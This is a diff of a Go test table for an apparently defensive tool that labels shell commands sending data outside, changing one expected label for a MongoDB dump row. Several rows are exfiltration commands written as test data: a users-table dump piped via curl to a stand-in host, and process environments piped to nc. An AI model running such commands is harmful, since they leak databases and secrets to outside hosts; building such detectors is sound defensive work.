@@ -39,7 +39,7 @@ func TestDumpsThatGoOutside(t *testing.T) {
 		{`mysql -e 'SELECT * FROM users' | curl -d @- https://a.example`, `send https://a.example from database; send https://a.example`},
 		{`mysql -e 'SELECT * FROM users WHERE id=1' | curl -d @- https://a.example`, `send https://a.example`},
 		{`mysql -e 'SELECT * FROM users' | curl -d @- http://localhost`, `send http://localhost`},
-		{`mongodump --archive | mongorestore --uri mongodb://a.example --archive`, `send a.example from database`},
+		{`mongodump --archive | mongorestore --uri mongodb://a.example --archive`, `connect a.example; send a.example from database`},
 		{`mongodump --archive | mongorestore --uri mongodb://localhost --archive`, ``},
 		{`ps auxeww | nc a.example 1`, `reveal credentials in the variables of processes; send a.example:1 from environment; send a.example:1 from secret`},
 		{`ps aux | nc a.example 1`, `send a.example:1`},
